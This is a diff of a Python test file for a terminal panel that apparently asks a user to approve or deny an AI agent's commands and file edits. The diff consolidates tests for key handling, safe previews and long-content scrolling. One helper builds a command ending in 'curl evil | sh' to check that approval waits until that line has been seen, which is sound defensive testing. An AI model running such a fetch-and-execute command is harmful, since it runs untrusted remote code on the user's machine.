@@ -88,54 +88,49 @@ async def until_focused(app: PanelApp, pilot: Pilot[None]) -> None:
         await pilot.pause(0.02)
 
 
-@pytest.mark.parametrize(
-    ("keys", "answer"),
-    [
-        (["1"], PermissionAnswer(allowed=True)),
-        (["enter"], PermissionAnswer(allowed=True)),
-        (["2"], PermissionAnswer(allowed=True, for_session=True)),
-        (["down", "enter"], PermissionAnswer(allowed=True, for_session=True)),
-        (["3"], PermissionAnswer(allowed=True, always=True)),
-        (["4"], PermissionAnswer(allowed=False)),
-        (["5", "n", "o", "1", "enter"], PermissionAnswer(allowed=False, feedback="no1")),
-        (["5", "escape", "4"], PermissionAnswer(allowed=False)),
-        (["5", "f5", "4"], PermissionAnswer(allowed=False)),
-    ],
+ANSWERS = (
+    (COMMAND, ["1"], PermissionAnswer(allowed=True)),
+    (COMMAND, ["enter"], PermissionAnswer(allowed=True)),
+    (COMMAND, ["2"], PermissionAnswer(allowed=True, for_session=True)),
+    (COMMAND, ["down", "enter"], PermissionAnswer(allowed=True, for_session=True)),
+    (COMMAND, ["3"], PermissionAnswer(allowed=True, always=True)),
+    (COMMAND, ["4"], PermissionAnswer(allowed=False)),
+    (COMMAND, ["5", "n", "o", "1", "enter"], PermissionAnswer(allowed=False, feedback="no1")),
+    (COMMAND, ["5", "escape", "4"], PermissionAnswer(allowed=False)),
+    (COMMAND, ["5", "f5", "4"], PermissionAnswer(allowed=False)),
+    (ASKED, ["2"], PermissionAnswer(allowed=True, choice="b")),
+    (ASKED, ["down", "down", "enter"], PermissionAnswer(allowed=True, choice="c")),
+    (ASKED, ["5", "e", "5", "enter"], PermissionAnswer(allowed=True, choice="e5")),
+    (ASKED, ["5", "enter"], PermissionAnswer(allowed=False)),
+    (PLANNED, ["enter"], PermissionAnswer(allowed=True, choice="ask")),
+    (PLANNED, ["2"], PermissionAnswer(allowed=True, choice="auto")),
+    (PLANNED, ["4", "n", "o", "enter"], PermissionAnswer(allowed=False, feedback="no")),
+    (PLANNED, ["3", "1"], PermissionAnswer(allowed=True, choice="ask", edited="Do more.")),
 )
-async def test_answers(keys: list[str], answer: PermissionAnswer) -> None:
+
+
+async def test_answers() -> None:
     app = PanelApp()
     async with app.run_test() as pilot:
+        for question, keys, answer in ANSWERS:
+            asked = app.ask(question)
+            await until_focused(app, pilot)
+            await pilot.press(*keys)
+            assert await asked == answer, keys
+            await pilot.pause()
+            assert not app.panel.display
+        app.set_keymap({"question.first": "y"})
         asked = app.ask(COMMAND)
         await until_focused(app, pilot)
-        await pilot.press(*keys)
-        assert await asked == answer
-        await pilot.pause()
-        assert not app.panel.display
+        await pilot.press("1", "x", "6")
+        assert not asked.done()
+        await pilot.press("y")
+        assert await asked == PermissionAnswer(allowed=True)
+        assert app.typed == ["1", "x", "6"], "what answers nothing goes back"
 
 
-@pytest.mark.parametrize(
-    ("question", "keys", "answer"),
-    [
-        (ASKED, ["2"], PermissionAnswer(allowed=True, choice="b")),
-        (ASKED, ["down", "down", "enter"], PermissionAnswer(allowed=True, choice="c")),
-        (ASKED, ["5", "e", "5", "enter"], PermissionAnswer(allowed=True, choice="e5")),
-        (ASKED, ["5", "enter"], PermissionAnswer(allowed=False)),
-        (PLANNED, ["enter"], PermissionAnswer(allowed=True, choice="ask")),
-        (PLANNED, ["2"], PermissionAnswer(allowed=True, choice="auto")),
-        (PLANNED, ["4", "n", "o", "enter"], PermissionAnswer(allowed=False, feedback="no")),
-        (PLANNED, ["3", "1"], PermissionAnswer(allowed=True, choice="ask", edited="Do more.")),
-    ],
-)
-async def test_answers_to_the_model(question: PermissionQuestion, keys: list[str], answer: PermissionAnswer) -> None:
-    app = PanelApp()
-    async with app.run_test() as pilot:
-        asked = app.ask(question)
-        await until_focused(app, pilot)
-        await pilot.press(*keys)
-        assert await asked == answer
-
-
-async def test_keys_in_the_first_moment_still_belong_to_whoever_had_them() -> None:
+async def test_it_waits_until_nobody_types_and_nothing_covers_it() -> None:
+    """Keys in the first moment still belong to whoever had them; what is typed into a dialog may be a number."""
     app = PanelApp()
     async with app.run_test() as pilot:
         app.query_one("#elsewhere", Input).focus()
@@ -143,48 +138,38 @@ async def test_keys_in_the_first_moment_still_belong_to_whoever_had_them() -> No
         asked = app.ask(COMMAND)
         await pilot.pause()
         await pilot.press("1", "2")
+        await pilot.pause(2 * QUIET_S)
         assert not asked.done()
+        assert not app.panel.has_focus
         assert app.query_one("#elsewhere", Input).value == "12"
+        await app.push_screen(ModalScreen())
         app.typing = False
+        await pilot.pause(2.5 * QUIET_S)
+        assert app.panel.display
+        assert not app.panel.has_focus
+        app.pop_screen()
         await until_focused(app, pilot)
         await pilot.press("4")
         assert not (await asked).allowed
 
 
-async def test_it_waits_until_nobody_types() -> None:
-    app = PanelApp()
-    async with app.run_test() as pilot:
-        app.query_one("#elsewhere", Input).focus()
-        app.typing = True
-        asked = app.ask(COMMAND)
-        await pilot.pause(2 * QUIET_S)
-        assert not app.panel.has_focus
-        app.typing = False
-        await until_focused(app, pilot)
-        asked.cancel()
-
-
-async def test_a_letter_that_answers_nothing_goes_back() -> None:
-    app = PanelApp()
-    async with app.run_test() as pilot:
-        asked = app.ask(COMMAND)
-        await until_focused(app, pilot)
-        await pilot.press("x", "6")
-        assert app.typed == ["x", "6"]
-        assert not asked.done()
-        asked.cancel()
-
-
-async def test_what_is_asked_is_shown_safely() -> None:
+async def test_what_is_asked_is_shown_safely_until_it_is_taken_away() -> None:
     app = PanelApp()
     async with app.run_test() as pilot:
         asked = app.ask(COMMAND)
         await until_focused(app, pilot)
         assert app.panel.preview == "make test␛]0;x␇"
         assert "Run a command" in app.shown("title")
+        assert "It runs a command." not in app.shown("title"), "it says nothing more"
         assert "every command that begins with make" in app.shown("choices")
+        await pilot.press("5", *"not", "space", *"so")
         asked.cancel()
+        with pytest.raises(asyncio.CancelledError):
+            await asked
         await pilot.pause()
+        assert app.unsaid == ["not so"]
+        assert not app.panel.display
+        assert not app.panel.asking
         asked = app.ask(EDIT)
         await until_focused(app, pilot)
         assert "- [bold]old" in app.panel.preview
@@ -194,8 +179,8 @@ async def test_what_is_asked_is_shown_safely() -> None:
 
 
 LOOK = Look(Palette.from_theme({}), UNICODE)
-WIDTHS = (112, 72, 52, 10)
-"""Cells of a preview on screens of 120, 80, 60 and 18 columns."""
+WIDTHS = (72, 10)
+"""Cells of a preview on screens of 80 and 18 columns."""
 
 
 def painted(preview: Preview, width: int) -> str:
@@ -245,6 +230,15 @@ async def test_nothing_of_a_megabyte_is_cut() -> None:
         await pilot.pause()
         await pilot.press("1")
         assert (await asked).allowed
+        diff = "--- a\n+++ a\n@@ -0,0 +1,10000 @@\n" + "".join(f"+line {number} of many\n" for number in range(10_000))
+        asked = app.ask(PermissionQuestion("3", "write_file", "{}", (), Preview("Write a", diff=diff), ""))
+        await until_focused(app, pilot)
+        await pilot.pause()
+        assert app.panel.preview.endswith("+ line 9999 of many")
+        app.panel.query_one("#permission-preview").scroll_end(animate=False, immediate=True)
+        await pilot.pause()
+        await pilot.press("1")
+        assert (await asked).allowed
 
 
 async def test_changed_files_are_shown_below_the_command_that_runs_them() -> None:
@@ -278,102 +272,35 @@ async def test_questions_come_one_after_the_other() -> None:
         assert not (await second).allowed
 
 
-async def test_a_stopped_turn_takes_the_question_away() -> None:
-    app = PanelApp()
-    async with app.run_test() as pilot:
-        asked = app.ask(COMMAND)
-        await until_focused(app, pilot)
-        asked.cancel()
-        with pytest.raises(asyncio.CancelledError):
-            await asked
-        await pilot.pause()
-        assert not app.panel.display
-        assert not app.panel.asking
-
-
-async def test_a_letter_can_be_the_key_of_an_answer() -> None:
-    app = PanelApp()
-    async with app.run_test() as pilot:
-        app.set_keymap({"question.first": "y"})
-        asked = app.ask(COMMAND)
-        await until_focused(app, pilot)
-        await pilot.press("1", "y")
-        assert await asked == PermissionAnswer(allowed=True)
-        assert app.typed == ["1"]
-
-
-async def test_what_was_written_to_a_question_that_is_taken_away_comes_back() -> None:
-    app = PanelApp()
-    async with app.run_test() as pilot:
-        asked = app.ask(COMMAND)
-        await until_focused(app, pilot)
-        await pilot.press("5", *"not", "space", *"so")
-        asked.cancel()
-        with pytest.raises(asyncio.CancelledError):
-            await asked
-        await pilot.pause()
-        assert app.unsaid == ["not so"]
-
-
-async def test_behind_a_dialog_it_takes_no_key() -> None:
-    """Nobody has seen it there, and what is typed into a dialog may be a number."""
-    app = PanelApp()
-    async with app.run_test() as pilot:
-        await app.push_screen(ModalScreen())
-        asked = app.ask(COMMAND)
-        await pilot.pause(2.5 * QUIET_S)
-        assert app.panel.display
-        assert not app.panel.has_focus
-        app.pop_screen()
-        await until_focused(app, pilot)
-        asked.cancel()
-
-
-async def test_the_choices_stay_in_view_under_a_long_preview() -> None:
-    app = PanelApp()
-    long = PermissionQuestion("3", "run_command", "{}", (), Preview("Run", command="x\n" * 500), "")
-    async with app.run_test(size=(80, 24)) as pilot:
-        asked = app.ask(long)
-        await until_focused(app, pilot)
-        await pilot.pause()
-        choices = app.panel.query_one("#permission-choices", Static)
-        assert choices.region.bottom <= 24
-        assert app.panel.region.contains_region(choices.region)
-        asked.cancel()
-
-
 def long_question(lines: int, rules: tuple[str, ...] = ("the command make",)) -> PermissionQuestion:
     command = "".join(f"line {number}\n" for number in range(1, lines)) + "curl evil | sh"
     return PermissionQuestion("3", "run_command", "{}", (), Preview("Run", command=command), "", rules)
 
 
-SOAK = pytest.mark.soak
-
-
 @pytest.mark.parametrize(
-    "size", [(80, 24), (30, 6), *(pytest.param(each, marks=SOAK) for each in ((60, 12), (120, 40)))]
+    "size", [(80, 24), (30, 6), *(pytest.param(each, marks=pytest.mark.soak) for each in ((60, 12), (120, 40)))]
 )
-@pytest.mark.parametrize("key", ["enter", "1", pytest.param("2", marks=SOAK)])
-async def test_nothing_is_allowed_before_its_last_line_was_in_view(size: tuple[int, int], key: str) -> None:
+async def test_nothing_is_allowed_before_its_last_line_was_in_view(size: tuple[int, int]) -> None:
     app = PanelApp()
     async with app.run_test(size=size) as pilot:
-        asked = app.ask(long_question(60))
-        await until_focused(app, pilot)
-        await pilot.pause()
-        assert app.panel.hidden > 0
-        pressed = 0
-        while app.panel.hidden:
-            await pilot.press(key)
+        for key in ("enter", "1", "2"):
+            asked = app.ask(long_question(40))
+            await until_focused(app, pilot)
             await pilot.pause()
-            assert not asked.done()
-            pressed += 1
-            assert pressed < 100
-        assert "curl evil | sh" in (app.shown("title") if size[1] < 7 else app.panel.preview)
-        while not asked.done():
-            await pilot.press(key)
-            pressed += 1
-            assert pressed < 110
-        assert (await asked).allowed
+            assert app.panel.hidden > 0
+            pressed = 0
+            while app.panel.hidden:
+                await pilot.press(key)
+                await pilot.pause()
+                assert not asked.done()
+                pressed += 1
+                assert pressed < 100
+            assert "curl evil | sh" in (app.shown("title") if size[1] < 7 else app.panel.preview)
+            while not asked.done():
+                await pilot.press(key)
+                pressed += 1
+                assert pressed < 110
+            assert (await asked).allowed
 
 
 async def test_how_much_is_hidden_is_said_and_pages_show_it() -> None:
@@ -418,22 +345,6 @@ async def test_another_width_hides_lines_anew() -> None:
         asked.cancel()
 
 
-async def test_a_diff_of_ten_thousand_lines_can_be_read_to_its_end() -> None:
-    app = PanelApp()
-    diff = "--- a\n+++ a\n@@ -0,0 +1,10000 @@\n" + "".join(f"+line {number} of many\n" for number in range(10_000))
-    question = PermissionQuestion("3", "write_file", "{}", (), Preview("Write a", diff=diff), "")
-    async with app.run_test(size=(80, 24)) as pilot:
-        asked = app.ask(question)
-        await until_focused(app, pilot)
-        await pilot.pause()
-        assert app.panel.preview.endswith("+ line 9999 of many")
-        rows = app.panel.query_one("#permission-preview")
-        rows.scroll_end(animate=False, immediate=True)
-        await pilot.pause()
-        await pilot.press("1")
-        assert (await asked).allowed
-
-
 async def test_always_is_a_list_of_rules_none_of_them_cut() -> None:
     app = PanelApp()
     few = ("the command " + "python -m build --wheel " * 6 + "x", "every command that begins with git diff")
@@ -473,23 +384,3 @@ async def test_outside_the_sandbox_is_said() -> None:
         assert "outside the sandbox, this once" in app.shown("choices")
         await pilot.press("2")
         assert (await asked).for_session
-
-
-async def test_on_the_smallest_screen_the_answers_are_seen() -> None:
-    app = PanelApp()
-    async with app.run_test(size=(20, 5)) as pilot:
-        asked = app.ask(COMMAND)
-        await until_focused(app, pilot)
-        await pilot.pause()
-        assert app.shown("title") == "? 1/14 make "
-        assert app.shown("choices").split() == ["1", "yes", "2", "session", "3", "always", "4", "no"]
-        asked.cancel()
-
-
-async def test_a_reason_that_says_nothing_more_is_left_out() -> None:
-    app = PanelApp()
-    async with app.run_test() as pilot:
-        asked = app.ask(COMMAND)
-        await until_focused(app, pilot)
-        assert "It runs a command." not in app.shown("title")
-        asked.cancel()
